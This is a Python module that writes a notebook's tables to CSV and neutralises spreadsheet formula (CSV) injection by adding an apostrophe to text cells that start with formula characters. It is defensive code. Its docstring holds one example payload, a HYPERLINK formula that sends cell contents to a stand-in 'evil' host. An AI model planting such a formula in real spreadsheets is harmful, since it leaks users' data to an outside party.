"""Write the tables behind a notebook's findings to the report's data folder, safe to open
in a spreadsheet.

Corpus text is untrusted, and a CSV cell that starts with ``=``, ``+``, ``-`` or ``@``
(or a tab or carriage return) is read by Excel, LibreOffice and Google Sheets as a formula:
``=HYPERLINK("http://evil/?"&A1, "click")`` would leak the sheet's cells. Following OWASP's
advice on CSV injection (https://owasp.org/www-community/attacks/CSV_Injection), every
such text cell, and every such column name, gets a leading apostrophe (``'``), which the
spreadsheet shows as text and does not display. A reader who loads the CSV with pandas or R
sees the apostrophe: ``unescape_cell`` (or dropping a leading ``'`` from a cell whose
next character is one of those) gives the text back. Numbers are written as numbers:
``-0.5`` in a numeric column stays a number.

A carriage return inside a text cell is written as ``\n``: the CSV's line ends are ``\n``,
so Python's writer would not quote a cell holding a bare ``\r``, and a spreadsheet would
start a new row there.
"""

from __future__ import annotations

from pathlib import Path

import pandas as pd
from pandas.api.types import is_bool_dtype, is_datetime64_any_dtype, is_numeric_dtype

from .paths import resolve

# OWASP's list: characters a spreadsheet takes as the start of a formula or of a DDE call.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")  # \n: a \r made \n, see below
ESCAPE_PREFIX = "'"  # OWASP: "prepend each cell field with a single quote"


def neutralise_cell(value: object) -> object:
    """Return ``value`` with a leading apostrophe if it is text a spreadsheet would run.

    Non-text values (numbers, dates, missing values) are returned unchanged, as is text
    that does not start with one of ``FORMULA_TRIGGERS``. Carriage returns become ``\n``.
    """
    if not isinstance(value, str):
        return value
    if "\r" in value:
        value = value.replace("\r\n", "\n").replace("\r", "\n")
    if value.lstrip(ESCAPE_PREFIX).startswith(FORMULA_TRIGGERS):
        return ESCAPE_PREFIX + value  # "'=x" too, so that unescape_cell gives it back exactly
    return value


def unescape_cell(value: object) -> object:
    """Undo ``neutralise_cell``: the text as it was in the corpus."""
    if (
        isinstance(value, str)
        and value.startswith(ESCAPE_PREFIX)
        and value.lstrip(ESCAPE_PREFIX).startswith(FORMULA_TRIGGERS)
    ):
        return value[1:]
    return value


def neutralise_formulas(df: pd.DataFrame) -> pd.DataFrame:
    """Return a copy of ``df`` whose text cells and column names cannot run as formulas.

    Parameters
    ----------
    df : DataFrame
        Any table; not modified.

    Returns
    -------
    DataFrame
        The same rows and columns; text cells (in any column that is not numeric, boolean
        or a date) and column names that start with a formula character get a leading ``'``.
    """
    out = df.copy()
    for column in out.columns:
        values = out[column]
        kind = values.dtype
        if not (is_numeric_dtype(kind) or is_bool_dtype(kind) or is_datetime64_any_dtype(kind)):
            out[column] = values.astype(object).map(neutralise_cell)  # text, categories, Arrow strings
    out.columns = [neutralise_cell(str(c)) for c in out.columns]
    return out


def write_table(df: pd.DataFrame, data_dir: str | Path, name: str) -> Path:
    """Write ``df`` to ``data_dir/name`` as UTF-8 CSV, formulas neutralised; return the path.

    The output is deterministic (no index, ``\\n`` line ends, dates as ISO 8601),
    so two builds from the same corpus give identical files. Text cells that a spreadsheet
    would take as a formula get a leading apostrophe (see the module docstring). A relative
    ``data_dir`` is taken from the repository root.
    """
    folder = resolve(data_dir)
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    neutralise_formulas(df).to_csv(
        path, index=False, lineterminator="\n", date_format="%Y-%m-%d", encoding="utf-8"
    )
    return path
